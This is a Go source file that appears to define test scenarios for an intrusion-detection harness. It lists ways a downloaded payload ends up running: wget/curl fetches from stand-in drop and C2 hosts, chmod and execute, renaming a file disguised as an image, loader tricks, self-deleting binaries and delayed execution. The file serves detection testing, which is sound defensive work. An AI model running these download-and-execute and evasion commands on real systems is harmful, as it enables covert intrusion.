package shapes

import (
	"context"
	"encoding/base64"
	"time"

	"baize/test/intrusions/stage"
)

func encoded(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

// disguises differ in how what was fetched becomes a program that runs.
var disguises = []Shape{
	{
		Name: "install", About: "install copies the download and permits it in one step",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/a.dat /var/tmp/.b"),
			"wget -q "+get("files.bin")+" -O /tmp/a.dat; install -m 755 /tmp/a.dat /var/tmp/.b; rm /tmp/a.dat; /var/tmp/.b"),
	},
	{
		Name: "copied", About: "the tool lies among the files that customers uploaded, and is copied from there",
		Play: simple(list(stage.C2), list("/dev/shm/.up"),
			"cp /srv/drop/upload /dev/shm/.up; chmod 0755 /dev/shm/.up; /dev/shm/.up"),
	},
	{
		Name: "renamed", About: "downloaded as a picture, renamed across directories, permitted, run",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/.session=/tmp/logo.png"),
			"wget -q "+get("files.bin")+" -O /tmp/logo.png; mv /tmp/logo.png /tmp/.session; chmod +x /tmp/.session; /tmp/.session"),
	},
	{
		Name: "loader", About: "never permitted: the dynamic loader is told to run the file",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/lib.so"),
			"curl -s "+get("perl")+` -o /tmp/lib.so; /lib64/ld-linux-x86-64.so.2 /tmp/lib.so -MIO::Socket::INET -e 'IO::Socket::INET->new("`+stage.C2+`");sleep 1'`),
	},
	{
		Name: "python-script", About: "never permitted: an interpreter is told to run the download",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/p.py"), "wget -q "+get("p.py")+" -O /tmp/p.py; python3 /tmp/p.py"),
	},
	{
		Name: "shell-script", About: "never permitted: a relative path to a shell",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/s.sh"), "cd /tmp && wget -q "+get("s.sh")+" -O s.sh; bash s.sh"),
	},
	{
		Name: "perl-script", About: "run by its own first line, from a directory that the service owns",
		Play: simple(list(drop+" "+stage.C2), list("/var/tmp/lib/q.pl"),
			"mkdir -p /var/tmp/lib; curl -s "+get("q.pl")+" -o /var/tmp/lib/q.pl; chmod 755 /var/tmp/lib/q.pl; /var/tmp/lib/q.pl"),
	},
	{
		Name: "separate-requests", About: "download, permission and execution in three requests",
		Play: simple(list(drop+" "+stage.C2), list("/dev/shm/.w"),
			"curl -s "+get("t")+" -o /dev/shm/.w", "chmod +x /dev/shm/.w", "/dev/shm/.w"),
	},
	{
		Name: "deleted", About: "the file is removed as soon as it runs",
		Play: simple(list(drop2+" "+stage.OtherC2), list("/dev/shm/.gone"),
			"curl -s http://"+stage.Drop2+"/u -o /dev/shm/.gone; chmod +x /dev/shm/.gone; /dev/shm/.gone & sleep 0.3; rm -f /dev/shm/.gone; wait"),
	},
	{Name: "permitted-by-another", About: "a job of the host's owner permits everything in a directory; the intruder only waits", Play: permittedByAnother},
	{Name: "hours-later", About: "five hours between the download and its execution, in another request", Play: hoursLater},
}

func permittedByAnother(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, "curl -s "+get("files.bin")+" -o /var/tmp/report")(ctx, s)
	if err != nil {
		return err
	}
	if _, err := s.Web.Run(ctx, stage.Service{Unit: "permissions", Args: list("chmod -R a+x /var/tmp")}); err != nil {
		return err
	}
	i.Called(drop, stage.C2)
	i.Brought("/var/tmp/report")
	return i.Inject(ctx, "/var/tmp/report")
}

func hoursLater(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, "curl -s "+get("t")+" -o /var/tmp/.sleeper; chmod 755 /var/tmp/.sleeper")(ctx, s)
	if err != nil {
		return err
	}
	if err := s.Advance(ctx, 5*time.Hour); err != nil {
		return err
	}
	i.Called(drop, stage.C2)
	i.Brought("/var/tmp/.sleeper")
	return i.Inject(ctx, "/var/tmp/.sleeper")
}
